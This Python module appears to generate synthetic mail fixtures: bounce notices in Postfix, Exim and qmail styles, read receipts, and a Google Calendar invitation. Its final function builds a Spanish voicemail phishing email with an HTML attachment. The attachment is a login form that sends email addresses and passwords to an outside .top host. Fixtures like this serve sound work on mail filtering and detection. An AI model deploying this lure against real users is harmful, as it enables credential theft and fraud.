"""Builders for machine mail: DSNs in three MTA dialects, auto-replies, receipts, calendar invitations."""
import datetime as dt

from mailkit import (local, alnum, b64, hexs, leaf, multipart, rfcdate, binary_leaf, central_to_utc, rng_for, enc_word)

SEC = dt.timedelta(seconds=1)


def our_headers(our, rcpt, extra=()):
    """Headers of one of our own messages, as they appear inside a bounce."""
    name, a = our["frm"]
    h = ["Return-Path: <%s>" % a,
         "Received: from app-mail02.alliant-energy.com (app-mail02.alliant-energy.com [10.20.3.40])\n\tby smtp-out01.alliant-energy.com (Postfix) with ESMTP id %s\n\tfor <%s>; %s" % (
             our.get("qid", "4X8Lq21Dz7z2Hk9"), rcpt, rfcdate(our["utc"], "CT", True)),
         "From: %s <%s>" % (name, a), "To: <%s>" % rcpt, "Subject: %s" % our["subject"],
         "Date: %s" % rfcdate(our["utc"], "CT"), "Message-ID: %s" % our["mid"], "MIME-Version: 1.0"]
    if our["kind"] == "ack":
        h.append("Auto-Submitted: auto-replied")
    if our["kind"] == "promo":
        h.append("List-Unsubscribe: <mailto:%s?subject=unsubscribe>" % a)
        h.append("Precedence: bulk")
    h.append('Content-Type: multipart/alternative; boundary="=_ae_%s"' % our["mid"][1:9].replace(".", ""))
    return "\n".join(list(h) + list(extra))


def postfix_dsn(key, t, mbox, our, rcpt, remote_host, remote_ip, reply, status, command="RCPT TO"):
    rng = rng_for(key + ":dsn")
    qid = "4X" + alnum(rng, 3) + "z" + alnum(rng, 9)
    stamp = int(t.timestamp())
    bnd = "%s.%d/smtp-out01.alliant-energy.com" % (qid, stamp)
    notif = ("This is the mail system at host smtp-out01.alliant-energy.com.\n\n"
             "I'm sorry to have to inform you that your message could not\n"
             "be delivered to one or more recipients. It's attached below.\n\n"
             "For further assistance, please send mail to postmaster.\n\n"
             "If you do so, please include this problem report. You can\n"
             "delete your own text from the attached returned message.\n\n"
             "                   The mail system\n\n"
             "<%s>: host %s[%s] said: %s (in reply to %s\n    command)\n" % (rcpt, remote_host, remote_ip, reply, command))
    ds = ("Reporting-MTA: dns; smtp-out01.alliant-energy.com\nX-Postfix-Queue-ID: %s\nX-Postfix-Sender: rfc822; %s\n"
          "Arrival-Date: %s\n\nFinal-Recipient: rfc822; %s\nOriginal-Recipient: rfc822;%s\nAction: failed\nStatus: %s\n"
          "Remote-MTA: dns; %s\nDiagnostic-Code: smtp; %s\n" % (qid, our["frm"][1], rfcdate(our["utc"], "CT", True), rcpt, rcpt, status, remote_host, reply))
    p1 = (["Content-Description: Notification", "Content-Type: text/plain; charset=us-ascii"], notif)
    p2 = (["Content-Description: Delivery report", "Content-Type: message/delivery-status"], ds)
    p3 = (["Content-Description: Undelivered Message Headers", "Content-Type: text/rfc822-headers"], our_headers(our, rcpt) + "\n")
    bh, body = multipart("report", [p1, p2, p3], bnd, preamble="This is a MIME-encapsulated message.", params="")
    bh = ['Content-Type: multipart/report; report-type=delivery-status;\n\tboundary="%s"' % bnd, "Content-Transfer-Encoding: 8bit"]
    headers = ["Received: by smtp-out01.alliant-energy.com (Postfix)\n\tid %s; %s" % (qid, rfcdate(t, "CT", True)),
               "Date: %s" % rfcdate(t, "CT", True),
               "From: MAILER-DAEMON@smtp-out01.alliant-energy.com (Mail Delivery System)",
               "Subject: Undelivered Mail Returned to Sender", "To: %s" % mbox, "Auto-Submitted: auto-replied",
               "MIME-Version: 1.0"] + bh + ["Message-Id: <%s.%s@smtp-out01.alliant-energy.com>" % (t.strftime("%Y%m%d%H%M%S"), qid)]
    return dict(headers=headers, body=body, host="smtp-out01.alliant-energy.com", ip="10.20.3.21", env_from="",
                auth=None, internal=True)


def exim_dsn(key, t, mbox, our, rcpt, host, ip, reason):
    rng = rng_for(key + ":exim")
    mid_local = "%s-%s-%s" % (alnum(rng, 6), alnum(rng, 6), alnum(rng, 2))
    body = ("This message was created automatically by mail delivery software.\n\n"
            "A message that you sent could not be delivered to one or more of its\n"
            "recipients. This is a permanent error. The following address(es) failed:\n\n"
            "  %s\n    %s\n\n"
            "------ This is a copy of the message's headers. ------\n\n%s\n" % (rcpt, reason, our_headers(our, rcpt, ["X-Spam-Score: -0.1"])))
    headers = ["Received: from Debian-exim by %s with local (Exim 4.96)\n\tid %s\n\tfor %s; %s" % (host, mid_local, mbox, rfcdate(t, "ET")),
               "X-Failed-Recipients: %s" % rcpt, "Auto-Submitted: auto-replied",
               "From: Mail Delivery System <Mailer-Daemon@%s>" % host, "To: %s" % mbox,
               "Content-Type: text/plain; charset=us-ascii", "Subject: Mail delivery failed: returning message to sender",
               "Message-Id: <E%s@%s>" % (mid_local, host), "Date: %s" % rfcdate(t, "ET"), "MIME-Version: 1.0"]
    return dict(headers=headers, body=body, host=host, ip=ip, env_from="", auth=None, spf="none")


def qmail_bounce(key, t, mbox, our, rcpt, host, ip, reason, pid):
    body = ("Hi. This is the qmail-send program at %s.\n"
            "I'm afraid I wasn't able to deliver your message to the following addresses.\n"
            "This is a permanent error; I've given up. Sorry it didn't work out.\n\n"
            "<%s>:\n%s\n\n--- Below this line is a copy of the message.\n\n%s\n\n[message body not returned]\n" % (host, rcpt, reason, our_headers(our, rcpt)))
    headers = ["Received: (qmail %d invoked for bounce); %s" % (pid, t.strftime("%d %b %Y %H:%M:%S -0000").lstrip("0")),
               "Date: %s" % t.strftime("%d %b %Y %H:%M:%S -0000").lstrip("0"),
               "From: MAILER-DAEMON@%s" % host, "To: %s" % mbox,
               "Subject: failure notice"]
    return dict(headers=headers, body=body, host=host, ip=ip, env_from="", auth=None, spf="none")


def mdn(key, t, mbox, our, reader_name, reader_addr, host, ip, xmailer="Microsoft Outlook 16.0"):
    rng = rng_for(key + ":mdn")
    bnd = "----=_NextPart_000_%04X_01DB%s.%s" % (rng.randint(1, 99), hexs(rng, 4, True), hexs(rng, 8, True))
    sent_l, _ = local(our["utc"], "CT")
    read_l, _ = local(t, "CT")
    human = ("Your message\n\n  To:      %s\n  Subject: %s\n  Sent:    %s\n\nwas read on %s.\n" % (
        reader_addr, our["subject"], sent_l.strftime("%A, %B %-d, %Y %-I:%M %p"), read_l.strftime("%A, %B %-d, %Y %-I:%M %p")))
    p1 = (["Content-Type: text/plain; charset=\"us-ascii\"", "Content-Transfer-Encoding: 7bit"], human)
    p2 = (["Content-Type: message/disposition-notification"],
          "Reporting-UA: %s; %s\nFinal-Recipient: rfc822;%s\nOriginal-Message-ID: %s\nDisposition: manual-action/MDN-sent-manually; displayed\n" % (
              host, xmailer, reader_addr, our["mid"]))
    bh, body = multipart("report", [p1, p2], bnd, preamble="This is a multipart message in MIME format.")
    bh = ['Content-Type: multipart/report; report-type=disposition-notification;\n\tboundary="%s"' % bnd]
    headers = ["From: \"%s\" <%s>" % (reader_name, reader_addr), "To: <%s>" % mbox, "Subject: Read: %s" % our["subject"],
               "Date: %s" % rfcdate(t, "CT"), "Message-ID: <000001db%s$%s$%s$@%s>" % (hexs(rng, 4), hexs(rng, 8), hexs(rng, 8), reader_addr.split("@")[1]),
               "MIME-Version: 1.0"] + bh + ["X-Mailer: %s" % xmailer, "Thread-Index: Ads%s" % b64(rng, 16)[:22], "Content-Language: en-us"]
    return headers, body


def ics_fold(line):
    out, raw = [], line.encode("utf-8")
    while len(raw) > 75:
        cut = 75 if not out else 74
        while (raw[cut] & 0xC0) == 0x80:
            cut -= 1
        out.append(raw[:cut].decode())
        raw = raw[cut:]
    out.append(raw.decode())
    return "\n ".join(out)


def calendar_invite(key, t, mbox):
    rng = rng_for(key + ":cal")
    org_name, org = "Tamara Lindell", "tlindell.casemgmt@gmail.com"
    start = central_to_utc("2024-12-12 14:00")
    end = central_to_utc("2024-12-12 14:30")
    stamp = t.strftime("%Y%m%dT%H%M%SZ")
    uid = alnum(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789") + "@google.com"
    summary = "Call re: client's Alliant bill and large-print options"
    desc = ("Hi\\, I'd like to set up a short call about my client's account. She is legally blind and wants the "
            "advertising mail stopped and her bills in large print. I'll have her on the line.\\n\\nTamara Lindell\\, "
            "Community Options case manager\\n\\n-::~:~::~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~::~:~::-\\n"
            "Invitation from Google Calendar: https://calendar.google.com/calendar/")
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "CALSCALE:GREGORIAN",
             "METHOD:REQUEST", "BEGIN:VEVENT", "DTSTART:" + start.strftime("%Y%m%dT%H%M%SZ"), "DTEND:" + end.strftime("%Y%m%dT%H%M%SZ"),
             "DTSTAMP:" + stamp, "ORGANIZER;CN=%s:mailto:%s" % (org_name, org), "UID:" + uid,
             "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s;X-NUM-GUESTS=0:mailto:%s" % (mbox, mbox),
             "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE;CN=%s;X-NUM-GUESTS=0:mailto:%s" % (org_name, org),
             "X-MICROSOFT-CDO-OWNERAPPTID:-%d" % rng.randint(100000000, 2000000000), "CREATED:" + stamp, "DESCRIPTION:" + desc,
             "LAST-MODIFIED:" + stamp, "LOCATION:Phone - I will call your 800 number", "SEQUENCE:0", "STATUS:CONFIRMED",
             "SUMMARY:" + summary, "TRANSP:OPAQUE", "END:VEVENT", "END:VCALENDAR"]
    ics = "\n".join(ics_fold(l) for l in lines) + "\n"
    when_txt = "Thursday Dec 12, 2024 \u22c5 2pm \u2013 2:30pm (Central Time - Chicago)"
    plain = ("%s\n%s\n\nI'd like to set up a short call about my client's account. She is legally blind and wants the advertising "
             "mail stopped and her bills in large print. I'll have her on the line.\n\nTamara Lindell, Community Options case manager\n\n"
             "Organizer\n%s\n\nGuests\n%s - organizer\n%s\n\nReply for %s\n\nInvitation from Google Calendar\n\n"
             "You are receiving this email because you are an attendee on the event. To stop receiving future updates for this "
             "event, decline this event.\n" % (summary, when_txt, org, org_name, mbox, mbox))
    htmlb = ("<span itemscope itemtype=\"http://schema.org/InformAction\"><h2>%s</h2><p>%s</p><p>I'd like to set up a short call about my "
             "client's account. She is legally blind and wants the advertising mail stopped and her bills in large print. I'll have her on the line.</p>"
             "<p>Tamara Lindell, Community Options case manager</p><p>Reply for %s: <a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;rst=1\">Yes</a> "
             "<a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;rst=2\">No</a></p><p style=\"color:#70757a;font-size:12px\">Invitation from Google Calendar</p></span>\n" % (
                 summary, when_txt.replace("\u22c5", "&#8901;").replace("\u2013", "&ndash;"), mbox))
    b_alt = "000000000000" + hexs(rng, 16)
    b_mix = "000000000000" + hexs(rng, 16)
    alt = multipart("alternative", [leaf("text/plain", plain, "UTF-8", "auto"), leaf("text/html", htmlb, "UTF-8", "quoted-printable"),
                                    leaf("text/calendar", ics, "UTF-8", "7bit", params="; method=REQUEST")], b_alt)
    att = binary_leaf('Content-Type: application/ics; name="invite.ics"', ics.replace("\n", "\r\n").encode(),
                      'Content-Disposition: attachment; filename="invite.ics"')
    bh, body = multipart("mixed", [alt, att], b_mix)
    headers = ["Received: by mail-sor-f73.google.com with SMTP id %s-%s.%d\n        for <%s>; %s" % (
                   hexs(rng, 10), hexs(rng, 8), rng.randint(1, 9), mbox, rfcdate(t, "PT", True)),
               "MIME-Version: 1.0", "Sender: Google Calendar <calendar-notification@google.com>",
               "Reply-To: %s <%s>" % (org_name, org), "Message-ID: <calendar-%s-%s-%s-%s-%s@google.com>" % (
                   hexs(rng, 8), hexs(rng, 4), hexs(rng, 4), hexs(rng, 4), hexs(rng, 12)),
               "Date: %s" % rfcdate(t, "UTC"),
               "Subject: Invitation: %s @ Thu Dec 12, 2024 2pm - 2:30pm (CST) (%s)" % (summary, mbox),
               "From: %s <%s>" % (org_name, org), "To: %s" % mbox] + bh
    return headers, body


def phish_relay_es(key):
    rng = rng_for(key + ":ph")
    text = ("Estimado cliente:\n\nTiene un nuevo mensaje de voz transcrito por el Servicio de Relevo.\n"
            "Duración: 00:47\n\nPara escuchar el mensaje y revisar su factura pendiente, abra el archivo adjunto "
            "e inicie sesión con su correo electrónico.\n\nSi no revisa el mensaje en 24 horas, su servicio podría ser suspendido.\n\n"
            "Atentamente,\nCentro de Mensajes\n")
    page = ("<html><head><title>Mensaje de voz</title></head><body><form action=\"http://cuentas-avisos.top/l.php\" method=\"post\">"
            "<h3>Inicie sesi&oacute;n para escuchar su mensaje</h3><input name=\"email\" placeholder=\"Correo\"><input name=\"pass\" "
            "type=\"password\" placeholder=\"Contrase&ntilde;a\"><button>Escuchar</button></form></body></html>")
    b = "----=_NextPart_%s" % hexs(rng, 20)
    p1 = leaf("text/plain", text, "UTF-8", "base64", cs_quote=False)
    p2 = binary_leaf('Content-Type: text/html; name="Transcripcion_mensaje_de_voz.htm"', page.encode(),
                     'Content-Disposition: attachment; filename="Transcripcion_mensaje_de_voz.htm"')
    return multipart("mixed", [p1, p2], b)
